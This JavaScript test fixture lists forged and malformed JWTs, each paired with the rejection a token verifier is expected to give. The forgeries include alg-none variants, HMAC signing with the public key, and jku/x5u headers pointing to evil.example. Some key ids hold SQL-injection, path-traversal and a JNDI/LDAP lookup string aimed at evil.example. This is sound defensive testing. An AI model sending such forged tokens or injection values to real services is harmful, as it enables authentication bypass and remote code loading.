/**
 * Tokens that look right and are not, and tokens at the edge of what is right. Each row is a name, what makes the token of a
 * realm, and the word of the first rule that it breaks, or "ok".
 */
import { createHmac, createSign, sign as signByNode, constants } from "node:crypto";
import { exportJWK, exportSPKI } from "jose";
import { HOW, part } from "./realm.mjs";

/** The order of P-256, and that of Ed25519. */
const ORDER_256 = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;
const ORDER_ED = 2n ** 252n + 27742317777372353535851937790883648493n;

const bytesOf = (number, length) => Buffer.from(number.toString(16).padStart(length * 2, "0"), "hex");
const numberOf = (bytes) => BigInt(`0x${Buffer.from(bytes).toString("hex")}`);

/** The parts of a token; its signature as bytes. */
function partsOf(token) {
  const [header, payload, signature] = token.split(".");
  return { input: `${header}.${payload}`, header, payload, signature: Buffer.from(signature, "base64url") };
}

/** A right token of a key with another signature. */
async function resigned(realm, kid, change) {
  const { input, signature } = partsOf(await realm.token(kid));
  return `${input}.${part(new Uint8Array(await change(signature, input)))}`;
}

/** A token whose algorithm is one with a shared secret, which is `secret`. */
const symmetric = (realm, kid, secret, alg = "HS256") =>
  realm.raw({ alg, kid, typ: "JWT" }, realm.claims(), (bytes) => createHmac(`sha${alg.slice(2)}`, secret).update(bytes).digest());

const none = (realm, alg, signature = "AA") => `${part({ alg, kid: "rs", typ: "JWT" })}.${part(realm.claims())}.${signature}`;

const header = (more) => (realm) => realm.token("es", { header: more });
const claims = (more) => (realm) => realm.token("es", { claims: typeof more === "function" ? more(realm) : more });
const content = (payload) => (realm) => realm.signed("es", {}, payload(realm));
const text = (change) => async (realm) => change(await realm.token("es"));

/** A key of the attacker in the header, and a signature by it. */
async function embedded(realm, more) {
  const { publicKey } = realm.keys.get("stranger");
  return realm.token("es", { by: "stranger", header: more(await exportJWK(publicKey)) });
}

const EVIL = "https://evil.example/keys";

export const ATTACKS = [
  // No algorithm, or another one.
  ["alg none without a signature", (realm) => none(realm, "none", ""), "not_compact"],
  ...["none", "None", "NONE", "nOnE", "", "HS256 ", "rs256", "RS512", "ES512", "EdDSA\u0000"].map((alg) => [`alg ${JSON.stringify(alg)}`, (realm) => none(realm, alg), "algorithm"]),
  ["no alg", (realm) => realm.raw({ kid: "rs" }, realm.claims(), () => Buffer.alloc(256)), "header"],
  ["alg null", (realm) => none(realm, null), "header"],
  ["a list of algs", (realm) => none(realm, ["RS256"]), "header"],
  ["HS256 by the public key in PEM", async (realm) => symmetric(realm, "rs", await exportSPKI(realm.keys.get("rs").publicKey)), "algorithm"],
  ["HS256 by the public key as JWK", (realm) => symmetric(realm, "rs", JSON.stringify(realm.keys.get("rs").jwk)), "algorithm"],
  ["HS256 by the modulus", (realm) => symmetric(realm, "rs", Buffer.from(realm.keys.get("rs").jwk.n, "base64url")), "algorithm"],
  ["HS256 by the point of a curve", (realm) => symmetric(realm, "es", Buffer.from(realm.keys.get("es").jwk.x, "base64url")), "algorithm"],
  ["HS256 by nothing", (realm) => symmetric(realm, "rs", ""), "algorithm"],
  ["HS512 by the public key", async (realm) => symmetric(realm, "rs", await exportSPKI(realm.keys.get("rs").publicKey), "HS512"), "algorithm"],
  ["RS256 of a key for PS256", (realm) => realm.token("ps", { by: "rs" }), "other_key"],
  ["PS256 of a key for RS256", (realm) => realm.token("rs", { by: "ps" }), "other_key"],
  ["ES256 of a key of another kind", (realm) => realm.token("rs", { by: "es" }), "other_key"],
  ["ES256 of a key of another curve", (realm) => realm.token("es384", { by: "es" }), "other_key"],
  // Keys that the token brings along.
  ["jwk", (realm) => embedded(realm, (jwk) => ({ jwk })), "signature"],
  ["jku", (realm) => embedded(realm, () => ({ jku: EVIL })), "signature"],
  ["jku and an unknown key id", (realm) => realm.token("new", { by: "stranger", header: { jku: EVIL } }), "unknown_key"],
  ["x5u", (realm) => embedded(realm, () => ({ x5u: EVIL })), "signature"],
  ["x5c", (realm) => embedded(realm, ({ x }) => ({ x5c: [x] })), "signature"],
  ["jwk in the place of a key id", (realm) => embedded(realm, (jwk) => ({ jwk, kid: jwk })), "header"],
  // Key ids.
  ...["' OR '1'='1", "../../keys/es", "es\u0000", "ES", " es", "", "/dev/null", "${jndi:ldap://evil.example/a}", "a".repeat(5_000)].map((kid) => [`the key id ${kid.slice(0, 30)}`, (realm) => realm.token(kid, { by: "es" }), "unknown_key"]),
  ["a key id that is a number", (realm) => realm.token("es", { header: { kid: 7 } }), "header"],
  ["a key id that is null", (realm) => realm.token("es", { header: { kid: null } }), "header"],
  ["no key id, with several keys", (realm) => realm.token(undefined, { by: "es" }), "ambiguous_key"],
  ["no key id, with one key for the algorithm", (realm) => realm.token(undefined, { by: "ed" }), "ok"],
  ["a key id of two keys", (realm) => realm.token("twice"), "ambiguous_key"],
  ["a key whose private part is published", (realm) => realm.token("published"), "unknown_key"],
  ["a key for encryption", (realm) => realm.token("encryption"), "unknown_key"],
  ["a key that is not on its curve", (realm) => realm.token("off-curve"), "signature"],
  ["the key id of another key", (realm) => realm.token("es", { by: "es-2" }), "signature"],
  // Headers.
  ["crit", (realm) => realm.signed("es", { crit: ["exp"], exp: 1 }, realm.claims()), "critical"],
  ["crit that is empty", (realm) => realm.signed("es", { crit: [] }, realm.claims()), "critical"],
  ["b64", (realm) => realm.signed("es", { b64: false }, realm.claims()), "critical"],
  ...["logout+jwt", "dpop+jwt", "JOSE", "JWE", "secevent+jwt", "", "text/plain"].map((typ) => [`the type ${typ}`, header({ typ }), "type"]),
  ...["JWT", "jwt", "application/at+jwt", undefined].map((typ) => [`the type ${typ}`, header({ typ }), "ok"]),
  ["a token in a token", header({ cty: "JWT" }), "type"],
  ["a header with two algs", (realm) => realm.raw('{"alg":"none","alg":"ES256","kid":"es"}', realm.claims(), () => Buffer.alloc(64)), "header"],
  ["a header with two key ids, one escaped", (realm) => realm.raw('{"alg":"ES256","kid":"es","\\u006bid":"rs"}', realm.claims(), () => Buffer.alloc(64)), "header"],
  ["a header that is a list", (realm) => realm.raw("[]", realm.claims(), () => Buffer.alloc(64)), "header"],
  // The form.
  ["a huge token", claims({ more: "a".repeat(8_192) }), "too_long"],
  ["a part more", text((token) => `${token}.e30`), "not_compact"],
  ["a point more", text((token) => `${token}.`), "not_compact"],
  ["a part less", text((token) => token.slice(0, token.lastIndexOf("."))), "not_compact"],
  ["five parts", text((token) => `${token}.AA.AA`), "not_compact"],
  ["padding", text((token) => `${token}==`), "not_compact"],
  ["a space before it", text((token) => ` ${token}`), "not_compact"],
  ["a line break after it", text((token) => `${token}\n`), "not_compact"],
  ["a space in it", text((token) => token.replace(".", " .")), "not_compact"],
  ["the usual base64", text((token) => token.replace(/\.[^.]*$/, ".++//")), "not_compact"],
  ["a bit that belongs to no byte", async (realm) => {
    const { input, signature } = partsOf(await realm.token("es"));
    const encoded = part(new Uint8Array(signature));
    return `${input}.${encoded.slice(0, -1)}${String.fromCharCode(encoded.charCodeAt(encoded.length - 1) + 1)}`;
  }, "not_compact"],
  ["JSON serialisation", (realm) => JSON.stringify({ payload: part(realm.claims()), signatures: [] }), "not_compact"],
  // What it says.
  ["content with two subjects", content((realm) => JSON.stringify(realm.claims()).replace("{", '{"sub":"1",')), "claims"],
  ["content with two subjects, one escaped", content((realm) => JSON.stringify(realm.claims()).replace("{", '{"\\u0073ub":"1",')), "claims"],
  ["two audiences under one name", content((realm) => JSON.stringify(realm.claims()).replace("{", '{"aud":"other",')), "claims"],
  ["content that goes on", content((realm) => `${JSON.stringify(realm.claims())}{}`), "claims"],
  ["content that is no object", content(() => "[]"), "claims"],
  ["a token as content", content(() => "a.b.c"), "claims"],
  ["no content", content(() => ""), "claims"],
  ["no issuer", claims({ iss: undefined }), "issuer"],
  ["another issuer", claims({ iss: "https://id.example.com/realms/other" }), "issuer"],
  ["the issuer with a slash", claims({ iss: "https://id.example.com/realms/shop/" }), "issuer"],
  ["issuers", claims({ iss: ["https://id.example.com/realms/shop"] }), "claims"],
  ["no audience", claims({ aud: undefined }), "audience"],
  ["another audience", claims({ aud: "other" }), "audience"],
  ["an audience that begins like ours", claims({ aud: "till-client" }), "audience"],
  ["audiences with ours", claims({ aud: ["other", "till"] }), "ok"],
  ["audiences without ours", claims({ aud: ["other", "tills"] }), "audience"],
  ["audiences that are not texts", content((realm) => ({ ...realm.claims(), aud: ["till", 7] })), "audience"],
  ["exp at the edge", claims(({ now }) => ({ iat: now - 600, exp: now - 59 })), "ok"],
  ["exp over the edge", claims(({ now }) => ({ iat: now - 600, exp: now - 60 })), "expired"],
  ["no exp", claims({ exp: undefined }), "claims"],
  ["exp as text", content((realm) => ({ ...realm.claims(), exp: String(realm.now + 300) })), "claims"],
  ["exp of the largest number", content((realm) => ({ ...realm.claims(), exp: Number.MAX_SAFE_INTEGER })), "claims"],
  ["exp with an exponent", content((realm) => JSON.stringify(realm.claims()).replace(/"exp":\d+/, '"exp":1e99')), "claims"],
  ["exp before 1970", content((realm) => ({ ...realm.claims(), exp: -1 })), "claims"],
  ["exp with decimals", content((realm) => ({ ...realm.claims(), exp: realm.now + 300.5 })), "ok"],
  ["nbf at the edge", claims(({ now }) => ({ nbf: now + 60 })), "ok"],
  ["nbf over the edge", claims(({ now }) => ({ nbf: now + 61 })), "not_yet"],
  ["iat at the edge", claims(({ now }) => ({ iat: now + 60 })), "ok"],
  ["iat over the edge", claims(({ now }) => ({ iat: now + 61 })), "not_yet"],
  ["no iat", claims({ iat: undefined }), "claims"],
  ["the longest life", claims(({ now }) => ({ exp: now + 86_400 })), "ok"],
  ["too long a life", claims(({ now }) => ({ exp: now + 86_401 })), "life"],
  ["no subject", claims({ sub: undefined }), "subject"],
  ["no name", claims({ preferred_username: undefined }), "username"],
  ["a name with a quote", claims({ preferred_username: "a'--" }), "username"],
  ...[{ typ: "ID" }, { typ: "Refresh" }, { typ: "Offline" }, { events: {} }, { cnf: { jkt: "k" } }].map((more) => [`a token for something else: ${JSON.stringify(more)}`, claims(more), "purpose"]),
  ...[{ nonce: "n" }, { at_hash: "h" }, { c_hash: "h" }].map((more) => [`an ID token: ${JSON.stringify(more)}`, (realm) => realm.token("es", { header: { typ: "JWT" }, claims: more }), "purpose"]),
  ["a token of access with a nonce, as older releases of Keycloak make them", (realm) => realm.token("es", { header: { typ: "JWT" }, claims: { typ: "Bearer", nonce: "n" } }), "ok"],
  // Signatures.
  ["another content under the signature", async (realm) => {
    const { header: head, signature } = partsOf(await realm.token("es"));
    return `${head}.${part(realm.claims({ sub: "1" }))}.${part(new Uint8Array(signature))}`;
  }, "signature"],
  ["another header over the signature", async (realm) => {
    const { payload, signature } = partsOf(await realm.token("es"));
    return `${part({ alg: "ES256", kid: "es" })}.${payload}.${part(new Uint8Array(signature))}`;
  }, "signature"],
  ...["rs", "ps", "es", "es384", "ed"].flatMap((kid) => [
    [`a truncated signature of ${kid}`, (realm) => resigned(realm, kid, (signature) => signature.subarray(0, -1)), "signature"],
    [`a longer signature of ${kid}`, (realm) => resigned(realm, kid, (signature) => Buffer.concat([signature, Buffer.alloc(1)])), "signature"],
    [`a signature of zeros of ${kid}`, (realm) => resigned(realm, kid, (signature) => Buffer.alloc(signature.length)), "signature"],
    [`a signature with another bit of ${kid}`, (realm) => resigned(realm, kid, (signature) => Buffer.from(signature.map((byte, place) => (place === 20 ? byte ^ 1 : byte)))), "signature"],
  ]),
  ["ES256 in DER", (realm) => resigned(realm, "es", (_, input) => createSign("sha256").update(input).sign(nodeKey(realm, "es"))), "signature"],
  ["ES256 with r zero", (realm) => resigned(realm, "es", (signature) => Buffer.concat([Buffer.alloc(32), signature.subarray(32)])), "signature"],
  ["ES256 with s zero", (realm) => resigned(realm, "es", (signature) => Buffer.concat([signature.subarray(0, 32), Buffer.alloc(32)])), "signature"],
  ["ES256 with r the order", (realm) => resigned(realm, "es", (signature) => Buffer.concat([bytesOf(ORDER_256, 32), signature.subarray(32)])), "signature"],
  ["ES256 with the numbers swapped", (realm) => resigned(realm, "es", (signature) => Buffer.concat([signature.subarray(32), signature.subarray(0, 32)])), "signature"],
  ["EdDSA with s above the order", (realm) => resigned(realm, "ed", (signature) => {
    const s = numberOf(Buffer.from(signature.subarray(32)).reverse()) + ORDER_ED;
    return Buffer.concat([signature.subarray(0, 32), bytesOf(s, 32).reverse()]);
  }), "signature"],
  ...[0, 20, 64, constants.RSA_PSS_SALTLEN_MAX_SIGN].map((saltLength) => [
    `PS256 with a salt of ${saltLength}`,
    (realm) => resigned(realm, "ps", (_, input) => signByNode("sha256", Buffer.from(input), { key: nodeKey(realm, "ps"), padding: constants.RSA_PKCS1_PSS_PADDING, saltLength })),
    "signature",
  ]),
  ["PS256 that is RS256", (realm) => realm.raw({ alg: "PS256", kid: "rsa" }, realm.claims(), (bytes) => crypto.subtle.sign(HOW.RS256, realm.keys.get("rsa").privateKey, bytes)), "signature"],
  ["RS256 with SHA-512", (realm) => resigned(realm, "rs", (_, input) => signByNode("sha512", Buffer.from(input), nodeKey(realm, "rs"))), "signature"],
];

/** A private key as `node:crypto` takes it. */
function nodeKey(realm, kid) {
  return realm.nodeKeys.get(kid);
}
